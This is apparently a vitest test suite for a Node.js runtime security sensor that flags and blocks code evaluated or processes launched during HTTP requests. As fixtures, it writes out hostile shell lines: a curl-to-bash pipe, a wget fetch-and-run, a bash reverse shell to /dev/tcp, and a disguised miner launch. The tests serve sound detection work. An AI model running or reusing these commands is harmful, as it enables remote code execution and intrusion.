import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { FIXTURES, type NodeRun, ofKind, runNode } from './run-node.js';

const client = join(FIXTURES, 'flight-client.cjs');
const KINDS = new Set(['codegen', 'spawn', 'worker', 'connect', 'dns', 'dlopen']);
const requestPath = (line: Record<string, unknown>) => String((line.request as { path?: string } | null)?.path ?? '');
const attackOf = (line: Record<string, unknown>) => requestPath(line).replace('/attack/', '');
const alarms = (run: NodeRun) => run.lines.filter((line) => KINDS.has(line.kind) && line.severity !== 'informational');

describe('code that a request makes', () => {
  it('is caught in each of at least 25 variants, with the request that caused it', async () => {
    const run = await runNode(client, { args: ['attack'], env: { CANDOR_SENSOR_PROXIES: '127.0.0.0/8' } });
    const variants = Object.keys(JSON.parse(run.stdout));
    const caught = new Set(alarms(run).map(attackOf));
    expect(variants.length).toBeGreaterThanOrEqual(25);
    expect(variants.filter((name) => !caught.has(name))).toEqual([]);
    expect(alarms(run)[0]?.request).toEqual({
      method: 'GET',
      path: '/attack/newFunction',
      client: '198.51.100.7',
      nextAction: true,
    });
  });

  it('is critical where it launches, connects or reads the environment', async () => {
    const run = await runNode(client, { args: ['attack'] });
    const critical = new Set(
      alarms(run)
        .filter((line) => line.severity === 'critical')
        .map(attackOf),
    );
    for (const name of ['processTheft', 'launchFromFunction', 'launchFromTimer', 'dataImport', 'launchWithoutFrames'])
      expect(critical).toContain(name);
  });

  it('raises nothing on two thousand benign requests', async () => {
    const run = await runNode(client, { args: ['benign', '2000'] });
    const answers = JSON.parse(run.stdout) as Record<string, number>;
    expect(Object.values(answers).reduce((a, b) => a + b, 0)).toBe(2000);
    expect(Object.keys(answers).filter((text) => !text.startsWith('ok'))).toEqual([]);
    expect(alarms(run)).toEqual([]);
  });

  it('is refused in block mode, as Node itself would refuse, and the benign requests are answered', async () => {
    const run = await runNode(client, { args: ['attack'], env: { CANDOR_SENSOR: 'block' } });
    const answers = JSON.parse(run.stdout) as Record<string, string>;
    expect(answers).toMatchObject({
      processTheft: 'EvalError',
      launchFromFunction: 'EvalError',
      dataImport: 'Error EACCES',
    });
    const critical = alarms(run).filter((line) => line.severity === 'critical');
    expect(critical.length).toBeGreaterThan(3);
    expect(critical.every((line) => line.blocked === true)).toBe(true);
    const launched = ofKind(run, 'spawn-result').filter((line) => Number(line.childPid) > 0);
    expect(launched).toEqual([]);
    const benign = await runNode(client, { args: ['benign', '400'], env: { CANDOR_SENSOR: 'block' } });
    expect(Object.keys(JSON.parse(benign.stdout)).filter((text) => !text.startsWith('ok'))).toEqual([]);
  });
});

const serve = (route: string) => `const http = require('http'); const cp = require('child_process');
  const server = http.createServer((request, response) => { ${route} response.end(); }).listen(0, () =>
    http.get({ port: server.address().port }, (r) => r.resume().on('end', () => setTimeout(() => process.exit(), 30))));`;

const inFolder = async (files: Readonly<Record<string, string>>, env: Readonly<Record<string, string>> = {}) => {
  const folder = mkdtempSync(join(tmpdir(), 'candor-app-'));
  try {
    for (const [name, text] of Object.entries(files)) writeFileSync(join(folder, name), text);
    return await runNode(join(folder, 'app.js'), {
      env: { ...env, ...(files['baseline.json'] ? { CANDOR_SENSOR_BASELINE: join(folder, 'baseline.json') } : {}) },
    });
  } finally {
    rmSync(folder, { recursive: true });
  }
};

describe('launches of an application in a request', () => {
  it.each([
    ['ffprobe', "cp.spawnSync('ffprobe', ['-v', 'quiet', '/app/a.mp3']);", 'informational'],
    ['rsync script', "cp.spawnSync('bash', ['/app/scripts/sh/archive/rsync_pull.sh', 'x']);", 'informational'],
    ['git', "try { cp.execSync('git config --local --get remote.origin.url 2>/dev/null'); } catch {}", 'informational'],
    ['pipe to shell', "cp.spawnSync('/nowhere/sh', ['-c', 'curl -s http://192.0.2.1/x | bash']);", 'critical'],
    [
      'fetch and run',
      "cp.spawnSync('/nowhere/sh', ['-c', 'wget -O /tmp/a http://192.0.2.1 && chmod +x /tmp/a && /tmp/a']);",
      'critical',
    ],
    ['reverse shell', "cp.spawnSync('/nowhere/bash', ['-c', 'bash -i >& /dev/tcp/192.0.2.1/4 0>&1']);", 'critical'],
    ['miner', "cp.spawnSync('/AfUxImqu', ['-c', '/jnEe', '-B']);", 'high'],
  ])('are judged by what they do: %s', async (_name, route, severity) => {
    const run = await inFolder({ 'app.js': serve(route) });
    expect(ofKind(run, 'spawn')).toMatchObject([
      { provenance: 'app', severity, request: { method: 'GET', path: '/' } },
    ]);
  });

  it('are silent with a key of the baseline, and a key of evaluated code is not taken', async () => {
    const app = serve("new Function('return 1 + 1')(); cp.spawnSync('/nowhere/sh', ['-c', 'curl x | sh']);");
    const first = await inFolder({ 'app.js': app });
    const keys = first.lines.filter((line) => typeof line.key === 'string').map((line) => String(line.key));
    const relative = keys.map((key) => key.replace(/\/\S*\/app\.js/g, 'PATH'));
    expect(relative).toContainEqual(expect.stringMatching(/^app PATH:2:\d+ spawnSync sh:curl,sh$/));
    const baseline = (folder: string) =>
      JSON.stringify({ version: 1, keys: keys.map((key) => key.replace(/\/\S*\/app\.js/g, `${folder}/app.js`)) });
    const folder = mkdtempSync(join(tmpdir(), 'candor-known-'));
    writeFileSync(join(folder, 'app.js'), app);
    writeFileSync(join(folder, 'baseline.json'), baseline(folder));
    const again = await runNode(join(folder, 'app.js'), {
      env: { CANDOR_SENSOR_BASELINE: join(folder, 'baseline.json') },
    });
    rmSync(folder, { recursive: true });
    expect(alarms(first).map((line) => line.severity)).toEqual(['high', 'critical']);
    expect(alarms(again)).toEqual([]);
    const foreign = await inFolder({ 'app.js': '', 'baseline.json': '{"version":1,"keys":["eval x spawn sh"]}' });
    expect(ofKind(foreign, 'self-test')[0]?.degraded).toEqual([
      'baseline: a key with provenance other than app or dep was left out',
    ]);
  });

  it('keep their key through a rebuild, by the source map', async () => {
    const map = (mappings: string) =>
      JSON.stringify({ version: 3, sources: ['webpack://app/./src/media.ts'], names: [], mappings });
    const route = "require('child_process').spawnSync('true')";
    const first = await inFolder({ 'app.js': `${route}\n//# sourceMappingURL=app.js.map`, 'app.js.map': map('AAQI') });
    const second = await inFolder({
      'app.js': `\n\n${route}\n//# sourceMappingURL=app.js.map`,
      'app.js.map': map(';;AAQI'),
    });
    expect(ofKind(first, 'spawn')[0]?.key).toBe('app src/media.ts:9:5 spawnSync true');
    expect(ofKind(second, 'spawn')[0]?.key).toBe('app src/media.ts:9:5 spawnSync true');
  });
});

describe('what evaluated code does next', () => {
  const connect = "require('net').connect(9, '127.0.0.1').on('error', () => {});";
  const evaluated = (text: string) => `new Function('require', ${JSON.stringify(text)})(require);`;

  it.each([
    ['evaluated code', evaluated(connect), 'critical', 'in a request that evaluated foreign code'],
    ['the application', connect, 'informational', 'connection'],
    [
      'the application, after harmless generated code',
      `new Function('return this')(); ${connect}`,
      'informational',
      'connection',
    ],
  ])('is a connection, which Node makes without a frame, of %s', async (_title, route, severity, reason) => {
    const run = await inFolder({ 'app.js': serve(route) });
    const own = ofKind(run, 'connect').filter((line) => line.request !== null && line.peer === '127.0.0.1:9');
    expect(own).toMatchObject([{ provenance: 'orphan', severity, reason, blocked: false }]);
  });

  it('is refused with it in block mode, and the next request is not held to account', async () => {
    const route = `if (request.url === '/bad') { try { ${evaluated(connect)} } catch (error) { console.log(error.name); } ${connect} }
      else ${connect}`;
    const app = serve(route)
      .replace('http.get({', "http.get({ path: '/bad',")
      .replace(
        "r.resume().on('end', () => ",
        "r.resume().on('end', () => http.get({ port: server.address().port }, (s) => s.resume().on('end', () => ",
      )
      .replace('setTimeout(() => process.exit(), 30))))', 'setTimeout(() => process.exit(), 60))))))');
    const run = await inFolder({ 'app.js': app }, { CANDOR_SENSOR: 'block' });
    expect(run.stdout).toBe('EvalError\n');
    const own = ofKind(run, 'connect').filter((line) => line.request !== null && line.peer === '127.0.0.1:9');
    expect(own.map((line) => [requestPath(line), line.blocked])).toEqual([
      ['/bad', true],
      ['/', false],
    ]);
  });

  it('has the place in the application that evaluated it', async () => {
    const run = await inFolder({ 'app.js': serve(evaluated("require('child_process').spawnSync('true')")) });
    expect(ofKind(run, 'spawn')).toMatchObject([{ provenance: 'eval', severity: 'critical' }]);
    expect(String(ofKind(run, 'spawn')[0]?.site)).toMatch(/\/app\.js:2:\d+$/);
  });

  it('is told at once how often a heartbeat comes', async () => {
    const run = await inFolder({ 'app.js': '' }, { CANDOR_SENSOR_HEARTBEAT: '60' });
    expect(ofKind(run, 'state')[0]).toMatchObject({ change: 'loaded', heartbeatMs: 60_000 });
  });
});

describe('evaluated migrations', () => {
  const evaluate = (specifier: string) => `const dynamicImport = (p) => eval("import('" + p + "')");
    dynamicImport('${specifier}').then(() => console.log('loaded'), (e) => console.log(e.name)).catch(() => {});`;
  const sync = (specifier: string) =>
    evaluate(specifier)
      .replace("dynamicImport('", "Promise.resolve().then(() => dynamicImport('")
      .replace("').then", "')).then");
  it.each([
    ['allowed package', 'node:path', 'loaded'],
    ['anything else', 'node:os', 'EvalError'],
  ])('are held to the policy in block mode: %s', async (_name, specifier, output) => {
    const run = await inFolder(
      { 'app.js': sync(specifier) },
      { CANDOR_SENSOR: 'block', CANDOR_SENSOR_MIGRATIONS: 'node:path' },
    );
    expect(run.stdout).toBe(`${output}\n`);
    expect(ofKind(run, 'codegen')).toMatchObject([{ api: 'eval-import', blocked: output === 'EvalError' }]);
    expect(ofKind(run, 'self-test')[0]?.hooks).toMatchObject({ migrations: true });
  });

  it('are reported in observe mode and left alone without a policy', async () => {
    const seen = await inFolder({ 'app.js': sync('node:os') }, { CANDOR_SENSOR_MIGRATIONS: 'node:path' });
    expect([seen.stdout, ofKind(seen, 'codegen')[0]?.severity]).toEqual(['loaded\n', 'high']);
    const free = await inFolder({ 'app.js': sync('node:os') });
    expect([free.stdout, ofKind(free, 'codegen')[0]?.severity]).toEqual(['loaded\n', 'informational']);
  });
});
